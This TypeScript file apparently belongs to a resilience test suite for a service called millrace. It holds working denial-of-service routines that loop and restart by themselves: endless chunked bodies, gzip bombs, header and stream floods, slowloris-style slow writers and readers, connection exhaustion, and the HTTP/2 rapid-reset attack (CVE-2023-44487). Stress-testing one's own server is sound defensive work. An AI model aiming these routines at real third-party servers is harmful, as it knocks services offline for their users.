/** What takes memory or time of a server: each goes on for as long as its process lives. */
import { connect as connectHttp2, type ClientHttp2Session } from 'node:http2'
import { connect, type Socket } from 'node:net'
import { gzipSync } from 'node:zlib'
import { framed } from '../grpc-client.ts'
import type { Place } from './part.ts'

const MIB = 1_048_576
const AGAIN_MS = 20

/** Begins, and goes on by itself. */
export type Attack = (place: Place) => void

function dial(url: string): Socket {
  const { hostname, port } = new URL(url)
  const socket = connect({ host: hostname, port: Number(port) })
  socket.on('error', () => socket.destroy()) // being cut off is what is expected
  return socket
}

function dialHttp2(url: string, settings: { readonly initialWindowSize?: number } = {}): ClientHttp2Session {
  const session = connectHttp2(url, { settings })
  session.on('error', () => session.destroy())
  return session
}

/** So many at a time; each begins anew when it is over. */
function keepUp(count: number, begin: (again: () => void) => void): void {
  const again = (): void => begin(() => void setTimeout(again, AGAIN_MS))
  for (let index = 0; index < count; index++) again()
}

function open(
  session: ClientHttp2Session,
  method: string,
  token: string,
): ReturnType<ClientHttp2Session['request']> {
  const stream = session.request({
    ':method': 'POST',
    ':path': `/millrace.v1.StoreService/${method}`,
    'content-type': 'application/grpc',
    te: 'trailers',
    authorization: `Bearer ${token}`,
  })
  stream.on('error', () => undefined) // see above
  return stream
}

function request(line: string, token: string, headers: readonly string[] = []): string {
  const all = [line, 'Host: localhost', `Authorization: Bearer ${token}`, ...headers]
  return `${all.join('\r\n')}\r\n\r\n`
}

/** Writes the same again and again, as fast as it is taken. */
function pour(socket: Socket, bytes: Buffer | string): void {
  const more = (): void => {
    while (!socket.destroyed && socket.write(bytes));
  }
  socket.on('drain', more)
  more()
}

const JSON_TYPE = 'Content-Type: application/json'

export const ATTACKS: Readonly<Record<string, Attack>> = {
  /** Chunks without end, and more bytes than were said. */
  'endless bodies': ({ url, tokens }) =>
    keepUp(8, (again) => {
      const socket = dial(url)
      socket.resume().once('close', again)
      const chunk = `${MIB.toString(16)}\r\n${'x'.repeat(MIB)}\r\n`
      socket.write(
        request('POST /v1/tasks HTTP/1.1', tokens.producer, [JSON_TYPE, 'Transfer-Encoding: chunked']),
      )
      pour(socket, chunk)
    }),
  'compressed bombs': ({ url, grpcUrl, tokens }) => {
    const bomb = gzipSync(Buffer.alloc(256 * MIB))
    keepUp(4, (again) => {
      const socket = dial(url)
      socket.resume().once('close', again)
      const headers = [
        JSON_TYPE,
        'Content-Encoding: gzip',
        `Content-Length: ${bomb.length}`,
        'Connection: close',
      ]
      socket.end(
        Buffer.concat([Buffer.from(request('POST /v1/tasks HTTP/1.1', tokens.producer, headers)), bomb]),
      )
    })
    const session = dialHttp2(grpcUrl)
    keepUp(4, (again) => {
      const stream = session.request({
        ':method': 'POST',
        ':path': '/millrace.v1.StoreService/Add',
        'content-type': 'application/grpc',
        te: 'trailers',
        'grpc-encoding': 'gzip',
      })
      stream.on('error', () => undefined)
      stream.resume().once('close', again)
      stream.end(framed(bomb, { flag: 1 }))
    })
  },
  'floods of headers': ({ url, grpcUrl }) => {
    keepUp(8, (again) => {
      const socket = dial(url)
      socket.resume().once('close', again)
      socket.write('GET /v1/tasks HTTP/1.1\r\nHost: localhost\r\n')
      pour(socket, `x-${'a'.repeat(20)}: ${'b'.repeat(4_000)}\r\n`)
    })
    keepUp(4, (again) => {
      const session = dialHttp2(grpcUrl)
      session.once('close', again)
      const many = Object.fromEntries(
        Array.from({ length: 120 }, (_, index) => [`x-${index}`, 'y'.repeat(500)]),
      )
      const stream = session.request({ ':method': 'POST', ':path': '/millrace.v1.StoreService/Now', ...many })
      stream.on('error', () => undefined)
      stream.resume().once('close', () => session.destroy())
    })
  },
  /** Bodies and messages of which all but the last byte comes. */
  'slow writers': ({ url, grpcUrl, tokens }) => {
    keepUp(100, (again) => {
      const socket = dial(url)
      socket.resume().once('close', again)
      const length = `Content-Length: ${15 * MIB}`
      socket.write(request('POST /v1/tasks HTTP/1.1', tokens.producer, [JSON_TYPE, length]))
      socket.write(Buffer.alloc(10 * MIB, 0x20))
      const timer = setInterval(() => socket.write(' '), 1_000)
      socket.once('close', () => clearInterval(timer))
    })
    keepUp(20, (again) => {
      const session = dialHttp2(grpcUrl)
      session.once('close', again)
      for (let index = 0; index < 20; index++) {
        const stream = open(session, 'Add', 'nobody')
        stream.resume().write(framed(Buffer.alloc(4 * MIB), { length: 15 * MIB }))
      }
    })
  },
  /** Answers and streams that nobody takes. */
  'slow readers': ({ url, grpcUrl, tokens }) => {
    keepUp(100, (again) => {
      const socket = dial(url)
      socket.pause().once('close', again)
      socket.write(request('GET /v1/tasks?limit=1000&queue=long HTTP/1.1', tokens.viewer).repeat(5))
    })
    keepUp(50, (again) => {
      const socket = dial(url)
      socket.pause().once('close', again)
      socket.write(request('GET /v1/events HTTP/1.1', tokens.viewer))
    })
    keepUp(5, (again) => {
      const session = dialHttp2(grpcUrl, { initialWindowSize: 0 })
      session.once('close', again)
      // a filter that says nothing, and the longest page
      const list = framed(Buffer.from([0x0a, 0x00, 0x10, 0xe8, 0x07]))
      for (let index = 0; index < 40; index++) open(session, 'List', tokens.viewer).pause().end(list)
      for (let index = 0; index < 20; index++)
        open(session, 'WatchHints', tokens.viewer)
          .pause()
          .end(framed(Buffer.alloc(0)))
    })
  },
  'connections that say nothing': ({ url, grpcUrl }) => {
    for (const where of [url, grpcUrl])
      keepUp(1_500, (again) => {
        dial(where).resume().once('close', again)
      })
  },
  'floods of streams': ({ grpcUrl, tokens }) =>
    keepUp(4, (again) => {
      const session = dialHttp2(grpcUrl)
      session.once('close', again)
      const now = framed(Buffer.alloc(0))
      const more = (): void => {
        if (session.destroyed || session.closed) return
        for (let index = 0; index < 100; index++) open(session, 'Now', tokens.viewer).resume().end(now)
        setTimeout(more, 50)
      }
      session.once('connect', more)
    }),
  /** Streams that are begun and reset at once (CVE-2023-44487). */
  'rapid resets': ({ grpcUrl, tokens }) =>
    keepUp(4, (again) => {
      const session = dialHttp2(grpcUrl)
      session.once('close', again)
      const more = (): void => {
        if (session.destroyed || session.closed) return
        for (let index = 0; index < 200; index++) open(session, 'Now', tokens.viewer).close(8)
        setImmediate(more)
      }
      session.once('connect', more)
    }),
}
